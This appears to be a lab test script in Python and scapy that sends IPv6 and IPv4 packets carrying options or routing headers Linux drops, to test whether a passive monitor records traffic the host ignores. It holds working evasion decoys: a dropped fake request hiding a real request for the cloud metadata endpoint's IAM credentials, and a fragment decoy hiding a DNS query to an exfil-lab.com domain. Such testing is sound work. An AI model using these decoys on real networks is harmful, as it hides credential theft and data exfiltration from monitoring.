#!/usr/bin/python3
"""opts.py IFACE - IP packets whose options or extension headers Linux
refuses (scapy; /usr/bin/python3 for scapy), from record6.sh's client
(fd53:6::10, 10.56.6.10) on IFACE to its server (fd53:6::53, 10.56.6.53)
(FINDINGS.md R21-F5):
  1. UDP queries to port 53 with destination options Linux drops (an
     unknown option whose type says discard, 0x5e, 0x9e, 0xde; PadN over 7
     bytes; PadN not zero; 9 options) and two it takes (type 0x1e; 8
     options);
  2. a TCP decoy: a connection to port 80 opened by this host's own stack,
     then, with the next sequence number, a request for /index.html in a
     segment whose destination options say discard (Linux drops it), then
     the real request for the metadata endpoint's credentials, of the same
     length, from the socket;
  3. a fragment decoy: the head of a decoy query behind such options, then
     the real query's head and the shared tail;
  4. UDP queries behind IPv6 routing headers (type 0 and 9 with no segment
     left, Linux passes them; type 0 with one left, segment routing with
     none or one: dropped) and IPv4 options (none; a record route; an
     unknown option; Linux passes them; a loose source route with hops
     left or none, a strict one done, a record route whose pointer is
     under 4, an option past the header: dropped);
  5. the TCP decoy of 2 over IPv4, the decoy segment carrying a loose
     source route (a host takes none).
One packet at a time, 0.1-0.5 s apart."""
import os, socket, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frag6_chain import udp, fr, SRC, DST  # noqa: E402  (the same builders)
from scapy.all import (IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, HBHOptUnknown, PadN,  # noqa: E402
                       IPv6ExtHdrRouting, IPv6ExtHdrSegmentRouting, IP, IPOption, IPOption_LSRR,
                       IPOption_SSRR, IPOption_RR, UDP, DNS, DNSQR, TCP, Raw, AsyncSniffer, send,
                       conf)

conf.verb = 0
DISCARD = [HBHOptUnknown(otype=0x9e, optdata=b"\0\0\0\0")]
CLI4, SRV4 = "10.56.6.10", "10.56.6.53"


def with_opts(opts, nh, payload):
    return IPv6(src=SRC, dst=DST, nh=60) / IPv6ExtHdrDestOpt(nh=nh, options=opts) / Raw(payload)


def tcp_decoy(iface, server, wrap):
    """A connection to server:80 made by this host's stack; then, with the
    next sequence number, a request for /index.html in the segment wrap()
    makes (an IP packet Linux drops); then the real request for the
    metadata credentials, of the same length, from the socket."""
    decoy = b"GET /index.html/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
    real = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
    assert len(decoy) == len(real), (len(decoy), len(real))
    sn = AsyncSniffer(iface=iface, filter="tcp and src port 80")
    sn.start()
    time.sleep(0.5)
    s = socket.create_connection((server, 80), timeout=5)
    sport = s.getsockname()[1]
    time.sleep(0.3)
    got = sn.stop()
    synack = [p for p in got if p.haslayer(TCP) and p[TCP].flags & 0x12 == 0x12
              and p[TCP].dport == sport]
    sa = synack[-1][TCP]
    send(wrap(TCP(sport=sport, dport=80, flags="PA", seq=sa.ack, ack=sa.seq + 1, window=502) /
              Raw(decoy)))
    time.sleep(0.2)
    s.sendall(real)
    try:
        s.recv(4096)
    except OSError:
        pass
    s.close()
    time.sleep(0.5)


def main():
    iface = sys.argv[1]
    cases = [
        ("opt-skip-0x1e.example", [HBHOptUnknown(otype=0x1e, optdata=b"\0\0\0\0")]),
        ("opt-discard-0x5e.example", [HBHOptUnknown(otype=0x5e, optdata=b"\0\0\0\0")]),
        ("opt-icmp-0x9e.example", [HBHOptUnknown(otype=0x9e, optdata=b"\0\0\0\0")]),
        ("opt-icmpnm-0xde.example", [HBHOptUnknown(otype=0xde, optdata=b"\0\0\0\0")]),
        ("padn-14.example", [PadN(optdata=b"\0" * 12)]),
        ("padn-nonzero.example", [PadN(optdata=b"\0\1\0\0")]),
        ("nine-opts.example", [HBHOptUnknown(otype=0x1e, optdata=b"")] * 9 + [PadN(optdata=b"")]),
        ("eight-opts.example", [HBHOptUnknown(otype=0x1e, optdata=b"")] * 8 + [PadN(optdata=b"")]),
    ]
    for i, (name, opts) in enumerate(cases):
        send(with_opts(opts, 17, udp(name, 41000 + i, 0x7100 + i)))
        time.sleep(0.1)

    # 2. the TCP decoy
    tcp_decoy(iface, DST, lambda seg: with_opts(DISCARD, 6, bytes(seg)))

    # 3. the fragment decoy: its head behind discarding options
    dq = udp("w" * 20 + "gezdgnbvgy3tqojq00.f16.exfil-lab.com", 41020, 0x7120)
    rq = udp("optsmzxw6ytboi4dcnzr" + "gezdgnbvgy3tqojq00.f16.exfil-lab.com", 41020, 0x7120)
    assert len(dq) == len(rq) and dq[56:] == rq[56:]
    head = IPv6(src=SRC, dst=DST, nh=60) / IPv6ExtHdrDestOpt(nh=44, options=DISCARD) / \
        IPv6ExtHdrFragment(nh=17, offset=0, m=1, id=0x8400) / Raw(dq[:56])
    send(head)
    time.sleep(0.2)
    send(fr(0x8400, 0, 17, rq[:56], True))
    time.sleep(0.2)
    send(fr(0x8400, 56, 17, rq[56:], False))
    time.sleep(0.5)

    # 4. routing headers and IPv4 options
    rhs = [
        ("v6-rh0-left0.example", IPv6ExtHdrRouting(nh=17, type=0, segleft=0, addresses=[DST])),
        ("v6-rh9-left0.example", IPv6ExtHdrRouting(nh=17, type=9, segleft=0, addresses=[DST])),
        ("v6-rh0-left1.example", IPv6ExtHdrRouting(nh=17, type=0, segleft=1, addresses=[DST])),
        ("v6-srh-left0.example", IPv6ExtHdrSegmentRouting(nh=17, segleft=0, lastentry=0,
                                                          addresses=[DST])),
        ("v6-srh-left1.example", IPv6ExtHdrSegmentRouting(nh=17, segleft=1, lastentry=1,
                                                          addresses=[DST, DST])),
    ]
    for i, (name, rh) in enumerate(rhs):
        send(IPv6(src=SRC, dst=DST, nh=43) / rh / Raw(udp(name, 42100 + i, 0x7200 + i)))
        time.sleep(0.1)
    v4 = [
        ("v4-plain.example", []),
        ("v4-rr.example", [IPOption_RR(routers=["0.0.0.0"], pointer=4)]),
        ("v4-unknown-opt.example", [IPOption(b"\x9e\x04\x00\x00")]),
        ("v4-lsrr-left.example", [IPOption_LSRR(routers=[SRV4, SRV4], pointer=4)]),
        ("v4-lsrr-done.example", [IPOption_LSRR(routers=[SRV4], pointer=8)]),
        ("v4-ssrr-done.example", [IPOption_SSRR(routers=[SRV4], pointer=8)]),
        ("v4-rr-badptr.example", [IPOption_RR(routers=["0.0.0.0"], pointer=2)]),
        ("v4-optlen-past.example", [IPOption(b"\x9e\x08\x00\x00")]),
    ]
    for i, (name, opts) in enumerate(v4):
        send(IP(src=CLI4, dst=SRV4, options=opts) / UDP(sport=42000 + i, dport=53) /
             DNS(id=0x7300 + i, rd=1, qd=DNSQR(qname=name)))
        time.sleep(0.1)

    # 5. the TCP decoy over IPv4, behind a loose source route
    tcp_decoy(iface, SRV4, lambda seg: IP(src=CLI4, dst=SRV4,
                                          options=[IPOption_LSRR(routers=[SRV4], pointer=8)]) / seg)


if __name__ == "__main__":
    main()
